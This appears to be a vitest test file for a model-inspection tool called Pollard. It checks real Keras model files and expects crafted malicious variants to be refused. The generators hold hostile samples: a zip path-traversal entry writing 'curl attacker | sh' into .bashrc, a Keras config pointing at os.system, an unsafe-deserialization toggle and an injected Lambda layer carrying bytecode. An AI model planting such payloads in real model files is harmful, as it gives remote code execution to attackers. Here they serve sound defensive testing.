/**
 * The model corpus, in the style of Netron's test/models.json: `models.json` lists real model
 * files (from ../shared/corpus, or POLLARD_CORPUS_DIR) with what Pollard must report for each —
 * format, layer count, parameter count, output shape and a prediction checksum on a fixed
 * input — and malicious files generated from them with the exact error expected. Each real
 * model must also survive export to Keras .h5 → reload with identical predictions, match the
 * parameter count and layer classes its config implies (and its MANIFEST lists), and, where a
 * Python with h5py and numpy is present, match an independent numpy forward pass.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, promises as fs, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { unzipSync, zipSync } from 'fflate';
import h5wasm from 'h5wasm/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PollardError } from '../../src/shared/errors';
import { saveKerasH5 } from '../../src/main/engine/model/keras/export-h5';
import { openKerasH5 } from '../../src/main/engine/model/keras/import-h5';
import { makeTempDir } from '../../src/main/engine/model/keras/test-fixtures';
import { openModel } from '../../src/main/engine/model/registry';
import { inspectModel } from '../../src/main/engine/model/summary';
import { tf } from '../../src/main/engine/tf';
import {
  checksum,
  close,
  configFacts,
  fixedInputs,
  predictAll,
  resolveCorpusDir,
  type Checksum,
} from './corpus-model';

interface Expected {
  format: string;
  layers: number;
  params: number;
  outputShape: (number | null)[];
  checksum: Checksum;
}

interface CorpusEntry {
  name: string;
  /** Relative to the corpus folder. */
  file: string;
  /** A malicious file made from `file` by the test (see `generators`). */
  generate?: string;
  expect: Expected | { error: string };
  /** Layer classes Pollard loads as an equivalent class (see `note`). */
  configRewrites?: Record<string, string>;
  note?: string;
  /** An expected output published with the model, on the input given there. */
  reference?: {
    source: string;
    inputs: { shape: number[]; dtype: 'float32' | 'int32'; values: number[] }[];
    output: number[];
  };
}

interface ManifestEntry {
  name: string;
  license: string;
  layer_counts: Record<string, number>;
}

const here = path.dirname(fileURLToPath(import.meta.url));
const repoRoot = path.resolve(here, '..', '..');
const corpusDir = resolveCorpusDir(repoRoot);
const corpusPresent = existsSync(path.join(corpusDir, 'MANIFEST.json'));
const entries = JSON.parse(readFileSync(path.join(here, 'models.json'), 'utf8')) as CorpusEntry[];
const real = entries.filter((entry) => entry.generate === undefined);
const generated = entries.filter((entry) => entry.generate !== undefined);

if (!corpusPresent) {
  console.log(
    `corpus test: SKIPPED ${entries.length} corpus entries: no MANIFEST.json in ${corpusDir} (set POLLARD_CORPUS_DIR to the corpus folder)`,
  );
}

function findPythonWithNumpyH5py(): string | undefined {
  for (const candidate of ['python3', '/usr/bin/python3']) {
    if (spawnSync(candidate, ['-c', 'import h5py, numpy'], { stdio: 'ignore' }).status === 0)
      return candidate;
  }
  return undefined;
}

/** Malicious or broken variants of a real corpus file, written into `out`. */
const generators: Record<string, (source: string, out: string) => Promise<string>> = {
  async 'truncate-half'(source, out) {
    const bytes = await fs.readFile(source);
    const file = path.join(out, path.basename(source));
    await fs.writeFile(file, bytes.subarray(0, Math.floor(bytes.length / 2)));
    return file;
  },
  async 'lfs-pointer'(source, out) {
    const bytes = await fs.readFile(source);
    const file = path.join(out, path.basename(source));
    await fs.writeFile(
      file,
      `version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize ${bytes.length}\n`,
    );
    return file;
  },
  async 'html-page'(source, out) {
    const file = path.join(out, path.basename(source));
    await fs.writeFile(
      file,
      `<!DOCTYPE html>\n<html lang="en"><head><title>${path.basename(source)}</title></head>`,
    );
    return file;
  },
  async 'zip-traversal'(source, out) {
    const members = unzipSync(await fs.readFile(source));
    members['../../.bashrc'] = new TextEncoder().encode('curl attacker | sh\n');
    const file = path.join(out, path.basename(source));
    await fs.writeFile(file, zipSync(members));
    return file;
  },
  async 'keras3-unsafe-deserialization'(source, out) {
    const members = unzipSync(await fs.readFile(source));
    const config = JSON.parse(new TextDecoder().decode(members['config.json'])) as {
      config: { layers: { config: Record<string, unknown> }[] };
    };
    const last = config.config.layers[config.config.layers.length - 1];
    if (last !== undefined) {
      last.config.kernel_initializer = {
        module: 'keras.config',
        class_name: 'enable_unsafe_deserialization',
        config: null,
        registered_name: null,
      };
    }
    members['config.json'] = new TextEncoder().encode(JSON.stringify(config));
    const file = path.join(out, path.basename(source));
    await fs.writeFile(file, zipSync(members));
    return file;
  },
  async 'keras3-module-os'(source, out) {
    const members = unzipSync(await fs.readFile(source));
    const config = JSON.parse(new TextDecoder().decode(members['config.json'])) as {
      config: { layers: Record<string, unknown>[] };
    };
    const second = config.config.layers[1];
    if (second !== undefined) Object.assign(second, { module: 'os', class_name: 'system' });
    members['config.json'] = new TextEncoder().encode(JSON.stringify(config));
    const file = path.join(out, path.basename(source));
    await fs.writeFile(file, zipSync(members));
    return file;
  },
  async 'h5-inject-lambda'(source, out) {
    const file = path.join(out, path.basename(source));
    await fs.copyFile(source, file);
    await fs.chmod(file, 0o644);
    await h5wasm.ready;
    const h5 = new h5wasm.File(file, 'a');
    try {
      const config = JSON.parse(h5.attrs.model_config?.value as string) as {
        config: { layers: Record<string, unknown>[]; output_layers: unknown[] };
      };
      const output = config.config.output_layers[0] as [string, number, number];
      config.config.layers.push({
        class_name: 'Lambda',
        name: 'lambda',
        config: {
          name: 'lambda',
          function: ['4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAdAB8AIMBUwA=', null, null],
        },
        inbound_nodes: [[[output[0], 0, 0, {}]]],
      });
      config.config.output_layers = [['lambda', 0, 0]];
      h5.delete_attribute('model_config');
      h5.create_attribute('model_config', JSON.stringify(config));
    } finally {
      h5.close();
    }
    return file;
  },
};

describe.skipIf(!corpusPresent)('model corpus', () => {
  const manifest = corpusPresent
    ? (JSON.parse(readFileSync(path.join(corpusDir, 'MANIFEST.json'), 'utf8')) as ManifestEntry[])
    : [];
  let out: string;
  let python: string | undefined;
  beforeAll(async () => {
    out = await makeTempDir('pollard-corpus-');
    python = findPythonWithNumpyH5py();
    if (python === undefined)
      console.log('corpus test: numpy reference checks skipped: no Python with h5py and numpy');
  });
  afterAll(async () => {
    await fs.rm(out, { recursive: true, force: true });
  });

  it('lists every model of the corpus MANIFEST', () => {
    expect(real.map((entry) => entry.name).sort()).toEqual(manifest.map((entry) => entry.name).sort());
  });

  for (const entry of real) {
    const expected = entry.expect as Expected;
    it(`${entry.name}: opens as ${expected.format} with ${expected.params} params and the expected outputs`, async () => {
      const file = path.join(corpusDir, entry.file);
      // `pollard inspect` runs exactly this.
      const summary = await inspectModel(file);
      expect(summary.format).toBe(expected.format);
      expect(summary.layers.length).toBe(expected.layers);
      expect(summary.params).toBe(expected.params);
      expect(summary.outputShape).toEqual(expected.outputShape);

      // The count its config implies, and the layer classes its MANIFEST lists.
      const facts = await configFacts(file, expected.format);
      expect(facts.params).toBe(expected.params);
      const listed = { ...manifest.find((m) => m.name === entry.name)?.layer_counts };
      for (const [from, to] of Object.entries(entry.configRewrites ?? {})) {
        listed[to] = (listed[to] ?? 0) + (listed[from] ?? 0);
        delete listed[from];
      }
      expect(facts.layerCounts).toEqual(listed);

      const loaded = await openModel(file);
      const inputs = fixedInputs(loaded.model);
      try {
        const outputs = await predictAll(loaded.model, inputs);
        const actual = checksum(outputs);
        expect(close(actual.sum, expected.checksum.sum), `sum ${actual.sum}`).toBe(true);
        expect(close(actual.absSum, expected.checksum.absSum), `absSum ${actual.absSum}`).toBe(true);
        actual.first.forEach((value, index) =>
          expect(close(value, expected.checksum.first[index] as number), `first[${index}] ${value}`).toBe(
            true,
          ),
        );

        // Export to Keras .h5 and back: the same predictions, bit for bit.
        const exported = path.join(out, `${entry.name}.h5`);
        await saveKerasH5(loaded.model, exported);
        const reloaded = await openKerasH5(exported);
        try {
          expect(reloaded.model.countParams()).toBe(expected.params);
          expect(Array.from(await predictAll(reloaded.model, inputs))).toEqual(Array.from(outputs));
        } finally {
          reloaded.model.dispose();
        }

        // The output published with the model, where there is one.
        if (entry.reference !== undefined) {
          const given = entry.reference.inputs.map((input) =>
            tf.tensor(input.values, input.shape, input.dtype),
          );
          const published = await predictAll(loaded.model, given);
          tf.dispose(given);
          expect(published.length).toBe(entry.reference.output.length);
          entry.reference.output.forEach((value, index) =>
            expect(close(published[index] as number, value, 1e-3, 1e-5), `reference[${index}]`).toBe(true),
          );
        }

        // An independent forward pass in numpy, from the weights as h5py reads them.
        if (python !== undefined && expected.format.startsWith('keras')) {
          const inputFile = path.join(out, `${entry.name}.inputs.json`);
          await fs.writeFile(
            inputFile,
            JSON.stringify(
              await Promise.all(
                inputs.map(async (t) => ({ shape: t.shape, values: Array.from(await t.data()) })),
              ),
            ),
          );
          const reference = JSON.parse(
            execFileSync(python, [path.join(here, 'keras_reference.py'), file, inputFile], {
              encoding: 'utf8',
              maxBuffer: 64 * 1024 * 1024,
            }),
          ) as number[];
          expect(reference.length).toBe(outputs.length);
          let worst = 0;
          reference.forEach((value, index) => {
            worst = Math.max(
              worst,
              Math.abs(value - (outputs[index] as number)) / Math.max(1e-3, Math.abs(value)),
            );
          });
          expect(worst, 'largest relative difference from numpy').toBeLessThan(1e-3);
        }
      } finally {
        tf.dispose(inputs);
        loaded.model.dispose();
      }
    });
  }

  for (const entry of generated) {
    const { error } = entry.expect as { error: string };
    it(`${entry.name}: refused with the expected message`, async () => {
      const generate = generators[entry.generate as string];
      if (generate === undefined) throw new Error(`unknown generator ${entry.generate}`);
      const dir = path.join(out, entry.name.replace(/\W+/g, '-'));
      await fs.mkdir(dir, { recursive: true });
      const file = await generate(path.join(corpusDir, entry.file), dir);
      const caught = await inspectModel(file).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(caught).toBeInstanceOf(PollardError);
      expect((caught as PollardError).message).toBe(error.replaceAll('{file}', file));
    });
  }
});
